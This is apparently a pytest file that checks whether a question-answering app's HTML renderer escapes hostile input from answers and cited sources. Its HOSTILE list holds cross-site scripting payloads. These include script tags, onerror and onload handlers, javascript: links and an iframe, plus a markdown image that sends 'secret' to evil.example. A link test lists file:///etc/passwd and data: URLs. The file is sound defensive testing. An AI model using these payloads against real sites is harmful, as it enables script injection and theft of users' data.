"""HTML of answers and sources: whatever a document contains is shown as text."""

import re
from html.parser import HTMLParser

import pytest

from taesr.answer import Answer, Citation, Statement
from taesr.app import render

HOSTILE = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    '"><iframe src="https://evil.example">',
    "`<b>` and </mark><a href='https://evil.example'>go</a>",
    "| <svg onload=alert(1)> | b |",
    "# <base href=https://evil.example>",
    "```\n<object data=https://evil.example>\n```",
    "\ue000\ue001 sentinel \ue001",
)
ALLOWED = {"div", "span", "p", "ol", "ul", "li", "pre", "code", "mark", "strong", "br", "a", "small"}
ALLOWED |= {"table", "thead", "tbody", "tr", "th", "td"}


class Tags(HTMLParser):
    """Collects the elements and their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def assert_harmless(html: str) -> None:
    tags = Tags(html)
    assert tags.open == []
    for tag, attributes in tags.found:
        assert tag in ALLOWED, tag
        assert set(attributes) <= {"class", "title", "style", "start", "colspan", "href", "target", "rel"}
        assert not any(name.startswith("on") for name in attributes)
        assert re.fullmatch(r"(width:\d+%)?", attributes.get("style") or "")


def citation(text: str, **fields: object) -> Citation:
    values: dict[str, object] = {
        "number": 1,
        "document": "a.md",
        "section": "",
        "score": 0.5,
        "source": "",
        "title": "",
    }
    return Citation(**(values | {"text": text} | fields))  # type: ignore[arg-type]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_an_answer_or_a_source_becomes_an_element(text: str) -> None:
    kinds = ("sentence", "step", "item", "code")
    statements = tuple(Statement(text, (1,), kind, block=i) for i, kind in enumerate(kinds))
    source = citation(
        text, document=text, section=text, title=text, source=text, highlights=((0, len(text)),)
    )
    answer = Answer(text, True, (source,), {"total": 1.0}, 1, 0.9, statements)
    unsure = Answer(text, False, (source,), {}, 0, 0.1)
    pieces = (
        render.question_html(text),
        render.answer_html(answer),
        render.answer_html(unsure),
        render.card_html(source),
        render.document_html(source, text, source.highlights),
        render.error_html(text),
        render.facts_html(text, {text: text}),
        render.cost_html(answer),
    )
    for html in pieces:
        assert_harmless(html)
        assert "<a " not in html


def test_only_web_addresses_are_links() -> None:
    html = render.card_html(citation("x", source='https://example.org/a?b="c"'))
    assert 'href="https://example.org/a?b=&quot;c&quot;"' in html
    assert "noopener" in html
    for source in (
        "javascript:alert(1)",
        "file:///etc/passwd",
        "data:text/html,x",
        "/docs/a.md",
        "//evil.example",
    ):
        assert "<a " not in render.card_html(citation("x", source=source))


def test_highlights_mark_exactly_what_they_cover() -> None:
    text = "## Head\n\nFirst sentence. Second `one` here.\n\n- third"
    begin, end = text.index("Second"), text.index("here.") + 5
    html = render.passage_html(text, ((begin, end),))
    marked = re.findall(r"<mark>(.*?)</mark>", html)
    assert marked == ["Second <code>one</code> here."]
    assert "<strong>Head</strong>" in html


def test_long_passages_are_cut_around_the_highlight_and_shown_whole_when_asked() -> None:
    text = "before " * 400 + "the answer" + " after" * 400
    begin = text.index("the answer")
    html = render.passage_html(text, ((begin, begin + 10),))
    assert "<mark>the answer</mark>" in html
    assert html.startswith("… ")
    assert html.endswith(" …")
    assert len(html) < 500
    assert render.passage_html(text, (), whole=True).count("before") == 400


def test_steps_keep_the_numbers_of_the_document() -> None:
    steps = tuple(Statement(f"Do {n}.", (1,), "step", f"{n}.", block=1) for n in (4, 5))
    html = render.answer_html(Answer("", True, (citation("x"),), {}, 1, 1.0, steps))
    assert '<ol start="4"><li>Do 4.' in html


def test_a_confident_answer_and_an_unsure_one_look_different() -> None:
    sure = Answer("Yes. [1]", True, (citation("x"),), {}, 1, 0.9, (Statement("Yes.", (1,)),))
    unsure = Answer("I'm not sure.", False, (), {}, 1, 0.1)
    assert 'class="answer"' in render.answer_html(sure)
    assert "Not sure" not in render.answer_html(sure)
    assert 'class="unsure"' in render.answer_html(unsure)
    assert "Not sure" in render.answer_html(unsure)
